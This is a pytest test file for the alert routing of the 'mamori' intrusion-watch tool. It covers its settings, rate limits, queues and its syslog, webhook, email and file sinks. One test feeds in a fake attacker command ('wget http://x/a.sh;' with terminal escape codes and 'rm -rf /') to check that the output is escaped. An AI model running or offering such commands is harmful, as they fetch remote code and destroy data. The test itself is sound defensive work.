"""Alert settings, filters, rate limits, bounded queues and the five sinks, each against a
real receiver: rsyslogd (UDP, TCP, unix socket), postfix delivering to a Maildir (plain and
STARTTLS), an HTTP server that fails, stalls and answers 500 (webhook), files (JSON lines)."""

from __future__ import annotations

import asyncio
import email
import email.policy
import io
import json
import re
import socket
import time
import tomllib
from collections.abc import Iterator, Sequence
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest

from daemons import start_or_skip
from fixtures_alerts import (
    MAIL_DOMAIN,
    SMTP_HOST,
    SYSLOG_HOST,
    Hook,
    Mailbox,
    Rsyslog,
    start_postfix_mailbox,
    start_rsyslog,
    webhook_server,
)
from mamori.model.watch import Danger, Event, EventType, Incident, event_to_dict
from mamori.settings import SettingsError, load_settings
from mamori.watch.settings import RateLimit, StdoutSinkSettings, WatchSettings, load_watch_settings
from mamori.watch.sinks import Alert, AlertRouter, Notice, alert_line
from mamori.watch.sinks.files import StdoutSink
from mamori.watch.sinks.limits import Limiter

ROOT = Path(__file__).resolve().parents[2]
T0 = datetime(2024, 5, 1, 12, 0, tzinfo=UTC)
NOISY = "198.51.100.7"


def ev(src: str | None, n: int = 0, kind: EventType = EventType.DECOY_CONNECT,
       danger: Danger = Danger.LOW, **fields: str) -> Event:
    return Event(T0 + timedelta(seconds=n), kind, "decoy:tcp/127.0.0.1:2323", src=src,
                 src_port=40000 + n % 20000, dst="127.0.0.1", dst_port=2323, proto="tcp",
                 danger=danger, fields=fields)


def inc(src: str, kind: str, danger: Danger, count: int = 14) -> Incident:
    return Incident(src, kind, danger, T0, T0 + timedelta(minutes=4), count,
                    types=("http.request",), signatures=(kind,),
                    examples=("GET /default.ida?NNNNNNNN HTTP/1.0",))


def watch(*alerts: dict[str, Any], **extra: Any) -> WatchSettings:
    return WatchSettings.from_table({"alerts": list(alerts), **extra}, "test")


def run(router: AlertRouter, items: Sequence[tuple[Event | Incident, bool]],
        *, pause: float = 0.0, deadline: float = 5.0) -> float:
    """Start the router, publish everything, (wait), close; returns the publish time."""
    async def go() -> float:
        await router.start()
        t = time.perf_counter()
        for item, opened in items:
            router.publish(item, opened=opened)
        spent = time.perf_counter() - t
        if pause:
            await asyncio.sleep(pause)
        await router.aclose(deadline)
        return spent
    return asyncio.run(go())


def lines(path: Path) -> list[dict[str, Any]]:
    return [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]


def free_port(host: str, kind: int = socket.SOCK_STREAM) -> int:
    with socket.socket(socket.AF_INET, kind) as s:
        s.bind((host, 0))
        return int(s.getsockname()[1])


# --- settings ---------------------------------------------------------------------------------


def test_documented_example_is_valid() -> None:
    doc = (ROOT / "docs/watch-settings.md").read_text(encoding="utf-8")
    example = doc.split("## A full example", 1)[1].split("```toml\n", 1)[1].split("```", 1)[0]
    data = tomllib.loads(example)
    ws = WatchSettings.from_table(data["watch"], "docs")
    assert [a.type for a in ws.alerts] == ["stdout", "jsonl", "syslog", "webhook", "apprise",
                                           "email"]
    hook = ws.alerts[3]
    assert hook.type == "webhook" and hook.name == "chat"
    assert hook.per_source == RateLimit(count=3, period=3600)
    assert hook.global_ == RateLimit(count=30, period=3600) and hook.min_danger is Danger.MEDIUM
    phone = ws.alerts[4]
    assert phone.type == "apprise" and phone.urls == ("ntfys://mamori-home-7f3a",)
    mail = ws.alerts[5]
    assert mail.type == "email" and mail.from_ == "mamori@example.net" and mail.starttls
    assert ws.block.enabled and ws.block.timeout == 3600 and len(ws.block.allowlist) == 2
    assert ws.incident_window == 900 and ws.detect.portscan_window == 60
    assert {s.kind for s in ws.log_settings()} == {"access", "auth", "journald-sshd",
                                                   "journald-kernel"}
    # the file as a whole is a valid settings file too
    assert set(data) == {"exclude_ports", "watch"}


def test_defaults_log_incidents_on_stdout_and_never_block() -> None:
    ws = WatchSettings()
    (sink,) = ws.alerts
    assert sink.type == "stdout" and sink.types == ("incident", "block")
    assert not ws.block.enabled and not ws.block.allow_loopback
    assert WatchSettings.from_table({"alerts": []}).alerts == ()


@pytest.mark.parametrize(("text", "expected"), [
    ('[watch]\ncolour = "blue"\n', "watch.colour: unknown setting"),
    ('[[watch.alerts]]\ntype = "pager"\n', "watch.alerts[0]: Input tag 'pager'"),
    ('[[watch.alerts]]\ntype = "webhook"\nurl = "ftp://x/"\n',
     "watch.alerts[0].url: must start with http:// or https://"),
    ('[[watch.alerts]]\ntype = "stdout"\nper_source = "lots"\n',
     "watch.alerts[0].per_source: 'lots' is not a rate"),
    ('[[watch.alerts]]\ntype = "stdout"\nglobal = "0/1m"\n', "watch.alerts[0].global.count"),
    ('[[watch.alerts]]\ntype = "stdout"\ntypes = ["decoy.nope"]\n', "unknown type 'decoy.nope'"),
    ('[[watch.alerts]]\ntype = "stdout"\nmin_danger = "severe"\n', "watch.alerts[0].min_danger"),
    ('[[watch.alerts]]\ntype = "jsonl"\n', "watch.alerts[0].path: Field required"),
    ('[[watch.alerts]]\ntype = "email"\nhost = "h"\nfrom = "a@b"\nto = ["c@d"]\n'
     'username = "u"\n', "username and password_env go together"),
    ('[[watch.alerts]]\ntype = "webhook"\nurl = "http://h/"\nheaders = {Host = "x"}\n',
     "header 'Host' is set by mamori"),
    ('[[watch.alerts]]\ntype = "syslog"\nsocket = "udp"\naddress = "h:99999"\n',
     "is not host:port"),
    ('[watch.block]\ntimeout = "5 parsecs"\n', "watch.block.timeout: '5 parsecs' is not a dur"),
    ('[watch.block]\nallowlist = ["10.0.0.0/8", "nope"]\n', "'nope' is not an address"),
    ('[watch.block]\nenabled = "yes"\n', "watch.block.enabled"),
    ('[watch.block]\ntable = "my table"\n', "watch.block.table"),
    ('[[watch.logs]]\nkind = "access"\n', "watch.logs[0]: kind access needs a path"),
    ('[[watch.logs]]\nkind = "journald-sshd"\npath = "/x"\n', "reads the journal: no path"),
    ('[watch]\ndecoys = ["127.0.0.1"]\n', "watch.decoys"),
    ('watch = 3\n', "watch must be a table"),
])
def test_bad_settings_are_one_line_errors(tmp_path: Path, text: str, expected: str) -> None:
    path = tmp_path / "settings.toml"
    path.write_text(text, encoding="utf-8")
    with pytest.raises(SettingsError) as caught:
        load_watch_settings(path)
    message = str(caught.value)
    assert message.startswith(f"{path}: ") and "\n" not in message
    assert expected in message


def test_watch_table_is_kept_by_the_settings_loader(tmp_path: Path) -> None:
    path = tmp_path / "settings.toml"
    path.write_text('exclude_ports = "2024"\n[watch]\nicmp = true\n'
                    '[[watch.alerts]]\ntype = "jsonl"\npath = "/tmp/x.jsonl"\n')
    settings = load_settings(path)
    assert settings.exclude_ports == "2024" and settings.watch is not None
    ws = load_watch_settings(path)
    assert ws.icmp and ws.alerts[0].type == "jsonl"


# --- rate limits (pure) -------------------------------------------------------------------------


def test_token_bucket_limits_per_source_and_reports_what_it_held_back() -> None:
    limiter = Limiter(per_source=RateLimit(count=3, period=30), global_=None)
    verdicts = [limiter.admit(NOISY, 0.0)[0] for _ in range(10)]
    assert verdicts == [True] * 3 + [False] * 7
    assert limiter.admit("192.0.2.1", 0.0) == (True, [])  # another source is not affected
    assert limiter.due(5.0) == []  # no token yet (one per 10 s)
    (summary,) = limiter.due(10.0)
    assert summary.count == 7 and summary.src == NOISY
    assert summary.text() == f"7 more alerts from {NOISY} suppressed (limit 3 per 30s)"
    # suppressed again, then the next admitted alert carries the summary
    assert limiter.admit(NOISY, 10.0)[0] and not limiter.admit(NOISY, 10.0)[0]
    ok, summaries = limiter.admit(NOISY, 20.5)
    assert ok and [s.count for s in summaries] == [1]


def test_global_limit_summary_names_the_top_sources() -> None:
    limiter = Limiter(per_source=None, global_=RateLimit(count=2, period=60))
    admitted = [limiter.admit(f"192.0.2.{i % 3}", 0.0)[0] for i in range(12)]
    assert admitted.count(True) == 2
    (summary,) = limiter.due(0.0, final=True)
    assert summary.count == 10 and summary.src is None
    assert summary.text().startswith("10 more alerts suppressed (global limit 2 per 1m); "
                                     "most from 192.0.2.")


# --- router: filters, rate limits, bounded queues ----------------------------------------------


def test_a_noisy_source_cannot_flood_and_others_still_get_through(tmp_path: Path) -> None:
    everything, serious = tmp_path / "all.jsonl", tmp_path / "serious.jsonl"
    router = AlertRouter.from_settings(watch(
        {"type": "jsonl", "path": str(everything), "per_source": "5/1h", "global": "100/1h"},
        {"type": "jsonl", "name": "serious", "path": str(serious), "types": ["incident"],
         "min_danger": "high"},
    ))
    items: list[tuple[Event | Incident, bool]] = [(ev(NOISY, i), False) for i in range(2000)]
    for i in range(20):  # quiet visitors in between the flood
        items.insert(100 * i + 7, (ev(f"192.0.2.{i + 1}", i, EventType.DECOY_LOGIN,
                                      Danger.MEDIUM, username="root", password="x"), False))
    items += [(inc("203.0.113.1", "probe.env", Danger.LOW), True),
              (inc("203.0.113.2", "worm.codered", Danger.HIGH), True),
              (inc("203.0.113.3", "exploit.log4shell", Danger.CRITICAL), False)]
    spent = run(router, items)
    assert spent < 1.0, f"publishing {len(items)} alerts took {spent:.2f} s"

    got = lines(everything)
    events = [d for d in got if d["schema"] == "mamori.event/1"]
    assert sum(d["src"] == NOISY for d in events) == 5
    assert sorted(d["src"] for d in events if d["src"] != NOISY) == sorted(
        f"192.0.2.{i + 1}" for i in range(20))
    assert [d["kind"] for d in got if d["schema"] == "mamori.incident/1"] == [
        "probe.env", "worm.codered", "exploit.log4shell"]
    notices = [d for d in got if d["schema"] == "mamori.notice/1"]
    assert [(n["kind"], n["src"], n["count"]) for n in notices] == [("suppressed", NOISY, 1995)]
    assert notices[0]["text"] == f"1995 more alerts from {NOISY} suppressed (limit 5 per 1h)"

    sev = lines(serious)
    assert [(d["kind"], d["opened"]) for d in sev] == [("worm.codered", True),
                                                        ("exploit.log4shell", False)]
    stats = router.stats()
    assert stats["jsonl"].suppressed == 1995 and stats["jsonl"].sent == 5 + 20 + 3 + 1
    assert stats["serious"].filtered == len(items) - 2 and stats["serious"].sent == 2


def test_global_limit_and_type_families(tmp_path: Path) -> None:
    out = tmp_path / "a.jsonl"
    router = AlertRouter.from_settings(watch(
        {"type": "jsonl", "path": str(out), "types": ["auth.*", "bruteforce"],
         "global": "10/1h"}))
    items: list[tuple[Event | Incident, bool]] = []
    for i in range(100):
        items.append((ev(f"10.0.{i // 250}.{i % 250}", i, EventType.AUTH_FAILURE), False))
        items.append((ev(f"10.0.{i // 250}.{i % 250}", i, EventType.DECOY_CONNECT), False))
    items.append((ev("10.9.9.9", 0, EventType.BRUTE_FORCE, Danger.HIGH), False))
    run(router, items)
    got = lines(out)
    assert [d["type"] for d in got[:10]] == ["auth.failure"] * 10
    assert got[-1]["schema"] == "mamori.notice/1"
    assert got[-1]["text"].startswith("91 more alerts suppressed (global limit 10 per 1h)")
    assert len(got) == 11 and router.stats()["jsonl"].filtered == 100


def test_suppressed_count_is_told_when_a_quiet_source_may_speak_again(tmp_path: Path) -> None:
    out = tmp_path / "a.jsonl"
    router = AlertRouter.from_settings(watch(
        {"type": "jsonl", "path": str(out), "per_source": "2/1s"}))

    async def go() -> list[dict[str, Any]]:
        await router.start()
        for i in range(10):
            router.publish(ev(NOISY, i))
        await asyncio.sleep(2.0)  # the bucket refills; the router's tick reports
        seen = lines(out)
        await router.aclose()
        return seen

    seen = asyncio.run(go())
    assert [d["schema"] for d in seen] == ["mamori.event/1"] * 2 + ["mamori.notice/1"]
    assert seen[-1]["text"] == f"8 more alerts from {NOISY} suppressed (limit 2 per 1s)"


def test_stdout_lines_are_single_escaped_lines() -> None:
    hostile = ev(NOISY, 1, EventType.DECOY_COMMAND, Danger.HIGH,
                 command="wget http://x/a.sh;\x1b[2J\x1b]0;owned\x07\nrm -rf /")
    sink = StdoutSink("stdout", StdoutSinkSettings(type="stdout"), stream=(buf := io.StringIO()))

    async def go() -> None:
        await sink.send(Alert(hostile))
        await sink.send(Alert(inc(NOISY, "worm.codered", Danger.CRITICAL), opened=True))
        await sink.send(Alert(Notice(T0, "suppressed", "3 more alerts from x suppressed")))
        await sink.aclose()

    asyncio.run(go())
    out = buf.getvalue().splitlines()
    assert len(out) == 3 and all("\x1b" not in line and "\x07" not in line for line in out)
    assert out[0].startswith(f"2024-05-01 12:00:01Z HIGH decoy.command {NOISY}:40001 -> "
                             "127.0.0.1:2323 command=wget http://x/a.sh;\\x1b[2J")
    assert out[1] == (f"2024-05-01 12:04:00Z CRITICAL new incident worm.codered from {NOISY}: "
                      '14 event(s) 12:00:00-12:04:00Z [worm.codered] e.g. "GET /default.ida?'
                      'NNNNNNNN HTTP/1.0"')
    assert out[2] == "2024-05-01 12:00:00Z NOTICE 3 more alerts from x suppressed"
    assert alert_line(Alert(hostile)) == out[0]


# --- syslog: a real rsyslogd --------------------------------------------------------------------


@pytest.fixture(scope="module")
def rsyslog(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Rsyslog]:
    workdir = tmp_path_factory.mktemp("rsyslog")
    server = start_or_skip(start_rsyslog, workdir, free_port(SYSLOG_HOST, socket.SOCK_DGRAM),
                           free_port(SYSLOG_HOST))
    with server.daemon:
        yield server


@pytest.mark.daemon
def test_syslog_over_udp_tcp_and_unix_socket(rsyslog: Rsyslog) -> None:
    address = f"{SYSLOG_HOST}:{{}}"
    router = AlertRouter.from_settings(watch(
        {"type": "syslog", "name": "udp", "socket": "udp", "address": address.format(rsyslog.udp),
         "facility": "local3", "hostname": "sensor1"},
        {"type": "syslog", "name": "tcp", "socket": "tcp", "address": address.format(rsyslog.tcp),
         "hostname": "sensor1", "types": ["incident"]},
        {"type": "syslog", "name": "unix", "socket": "unix", "address": str(rsyslog.unix),
         "format": "rfc3164", "facility": "auth", "hostname": "sensor1",
         "types": ["decoy.login"]},
    ))
    login = ev(NOISY, 3, EventType.DECOY_LOGIN, Danger.HIGH, username="admin",
               password='pa"ss]\\word')
    huge = ev("192.0.2.9", 4, EventType.HTTP_REQUEST, Danger.INFO, method="GET",
              path="/" + "A" * 5000)
    weird = Incident(NOISY, 'worm."codered]', Danger.CRITICAL, T0, T0, 3, ("http.request",))
    run(router, [(login, False), (huge, False), (weird, True)])

    rows = rsyslog.wait_for(5)
    assert len(rows) == 5, rows
    udp = [r for r in rows if r["facility"] == "local3"]
    tcp = [r for r in rows if r["facility"] == "daemon"]
    unix = [r for r in rows if r["facility"] == "auth"]
    assert len(udp) == 3 and len(tcp) == 1 and len(unix) == 1
    by_msgid = {r["msgid"]: r for r in udp}
    r = by_msgid["decoy.login"]
    assert (r["severity"], r["app"], r["hostname"]) == ("err", "mamori", "sensor1")
    assert f'src="{NOISY}"' in r["sd"] and 'type="decoy.login"' in r["sd"]
    assert "user=admin" in r["msg"] and 'password=pa"ss]\\word' in r["msg"]
    assert by_msgid["http.request"]["severity"] == "info"
    assert by_msgid["http.request"]["msg"].endswith("…")  # a long path is shortened
    r = by_msgid["incident"]
    assert r["severity"] == "crit" and 'kind="worm.\\"codered\\]"' in r["sd"]
    assert 'opened="true"' in r["sd"] and 'count="3"' in r["sd"]
    assert tcp[0]["msgid"] == "incident" and "new incident" in tcp[0]["msg"]
    assert unix[0]["severity"] == "err" and unix[0]["app"] == "mamori"
    assert unix[0]["procid"].isdigit() and "decoy.login" in unix[0]["msg"]
    assert all(s.sent == s.published - s.filtered for s in router.stats().values())


# --- webhook: a real HTTP server that fails, stalls, answers 500 -------------------------------


def hook_router(url: str, **options: Any) -> AlertRouter:
    return AlertRouter.from_settings(watch({"type": "webhook", "url": url, **options}))


def test_webhook_retries_with_backoff_then_delivers() -> None:
    hook = Hook([500, 503, 200])
    login = ev(NOISY, 5, EventType.DECOY_LOGIN, Danger.MEDIUM, username="root", password="1")
    with webhook_server(hook) as url:
        router = hook_router(url, backoff=0.2, retries=3, headers={"X-Token": "s3cret"})
        run(router, [(login, False)])
    assert len(hook.times) == 3
    gaps = [b - a for a, b in zip(hook.times, hook.times[1:], strict=False)]
    assert 0.18 <= gaps[0] < 1.0 and 0.38 <= gaps[1] < 1.5  # 0.2 s, then doubled
    assert hook.bodies == [event_to_dict(login)] * 3
    assert hook.headers[0]["X-Token"] == "s3cret"
    assert hook.headers[0]["Content-Type"] == "application/json"
    stats = router.stats()["webhook"]
    assert (stats.sent, stats.failed) == (1, 0)


def test_webhook_stall_times_out_and_is_retried() -> None:
    hook = Hook(["stall", 200], stall=3.0)
    with webhook_server(hook) as url:
        router = hook_router(url, timeout=0.5, backoff=0.1)
        t = time.monotonic()
        run(router, [(inc(NOISY, "bruteforce", Danger.HIGH), True)])
        spent = time.monotonic() - t
    assert len(hook.times) == 2 and spent < 2.5
    assert hook.bodies[1]["schema"] == "mamori.incident/1" and hook.bodies[1]["opened"] is True
    assert router.stats()["webhook"].sent == 1


def test_webhook_gives_up_on_500_and_does_not_retry_404() -> None:
    for script, attempts in (([500], 3), ([404], 1)):
        hook = Hook(list(script))
        with webhook_server(hook) as url:
            router = hook_router(url, retries=2, backoff=0.05)
            run(router, [(ev(NOISY), False)])
        assert len(hook.times) == attempts
        stats = router.stats()["webhook"]
        assert (stats.sent, stats.failed) == (0, 1)


def test_webhook_refused_connection_is_retried_and_counted() -> None:
    port = free_port("127.0.145.2")  # nothing listens there
    router = hook_router(f"http://127.0.145.2:{port}/x", retries=1, backoff=0.05)
    run(router, [(ev(NOISY), False)])
    assert router.stats()["webhook"].failed == 1
    assert router.routes[0].sink.attempts == 2  # type: ignore[attr-defined]


def test_a_stalled_webhook_fills_only_its_bounded_queue() -> None:
    hook = Hook(["stall", 200], stall=0.6)
    with webhook_server(hook) as url:
        router = hook_router(url, queue=5, timeout=5)
        spent = run(router, [(ev(f"192.0.2.{i % 200}", i), False) for i in range(300)])
    assert spent < 0.5
    stats = router.stats()["webhook"]
    assert stats.dropped == 295 and stats.sent == 5 + 1
    (notice,) = [b for b in hook.bodies if b["schema"] == "mamori.notice/1"]
    assert notice["schema"] == "mamori.notice/1" and notice["kind"] == "dropped"
    assert notice["count"] == 295 and "webhook sink could not keep up" in notice["text"]


# --- e-mail: a real postfix delivering to a Maildir ---------------------------------------------


@pytest.fixture(scope="module")
def mailbox(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Mailbox, Path]]:
    from fixtures_crypto import make_pki

    workdir = tmp_path_factory.mktemp("postfix")
    pki = make_pki(workdir / "pki", [SMTP_HOST])
    box = start_or_skip(start_postfix_mailbox, workdir, free_port(SMTP_HOST),
                        pki.good.fullchain, pki.good.key)
    with box.daemon:
        yield box, pki.ca_file


@pytest.mark.daemon
def test_email_through_postfix_plain_and_starttls(mailbox: tuple[Mailbox, Path]) -> None:
    box, ca_file = mailbox
    base = {"type": "email", "host": SMTP_HOST, "port": box.port, "from": "mamori@sensor.test",
            "to": [f"owner@{MAIL_DOMAIN}"], "types": ["incident"], "timeout": 10}
    router = AlertRouter.from_settings(watch(
        {**base, "name": "plain", "min_danger": "critical"},
        {**base, "name": "tls", "starttls": True, "tls_cafile": str(ca_file),
         "subject_prefix": "[watch]"},
        {**base, "name": "untrusted", "starttls": True, "min_danger": "critical"},
    ))
    run(router, [(inc(NOISY, "worm.codered", Danger.HIGH), True),
                 (inc("203.0.113.5", "exploit.log4shell", Danger.CRITICAL), True),
                 (ev(NOISY, 9, EventType.DECOY_CONNECT, Danger.CRITICAL), False)],
        deadline=20)
    stats = router.stats()
    assert (stats["plain"].sent, stats["tls"].sent) == (1, 2)
    # STARTTLS checks the certificate: without the test CA the upgrade fails, nothing is sent
    assert (stats["untrusted"].sent, stats["untrusted"].failed) == (0, 1)
    raw = box.wait_for(3)
    assert len(raw) == 3
    msgs = [email.message_from_bytes(m, policy=email.policy.default) for m in raw]
    subjects = sorted(str(m["Subject"]) for m in msgs)
    assert subjects == [
        "[mamori] CRITICAL new incident exploit.log4shell from 203.0.113.5: 14 event(s) "
        '12:00:00-12:04:00Z [exploit.log4shell] e.g. "GET /default.ida?NNNNNNNN HTTP/1.0"',
        "[watch] CRITICAL new incident exploit.log4shell from 203.0.113.5: 14 event(s) "
        '12:00:00-12:04:00Z [exploit.log4shell] e.g. "GET /default.ida?NNNNNNNN HTTP/1.0"',
        f"[watch] HIGH new incident worm.codered from {NOISY}: 14 event(s) 12:00:00-12:04:00Z "
        '[worm.codered] e.g. "GET /default.ida?NNNNNNNN HTTP/1.0"',
    ]
    tls_log = box.log.read_text(errors="replace")
    assert tls_log.count("starttls=1") >= 2 and "delivered to maildir" in tls_log
    body = next(m for m in msgs if "worm.codered" in str(m["Subject"])).get_body()
    assert body is not None
    text = body.get_content()
    assert f"source:     {NOISY}" in text and "events:     14" in text
    payload = json.loads(text[text.index("{"):])
    assert payload["schema"] == "mamori.incident/1" and payload["kind"] == "worm.codered"
    assert all(str(m["To"]) == f"owner@{MAIL_DOMAIN}" for m in msgs)
    assert all(re.fullmatch(r"<.+@mamori>", str(m["Message-ID"])) for m in msgs)


def test_jsonl_directory_must_exist(tmp_path: Path) -> None:
    with pytest.raises(SettingsError, match=r"the directory of .* does not exist"):
        AlertRouter.from_settings(watch({"type": "jsonl", "path": str(tmp_path / "no/a.jsonl")}))


def test_email_password_variable_must_exist(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("MAMORI_TEST_SMTP_PW", raising=False)
    ws = watch({"type": "email", "host": SMTP_HOST, "from": "a@b.test", "to": ["c@d.test"],
                "username": "u", "password_env": "MAMORI_TEST_SMTP_PW"})
    with pytest.raises(SettingsError, match="MAMORI_TEST_SMTP_PW"):
        AlertRouter.from_settings(ws)
    monkeypatch.setenv("MAMORI_TEST_SMTP_PW", "x")
    assert len(AlertRouter.from_settings(ws).routes) == 1
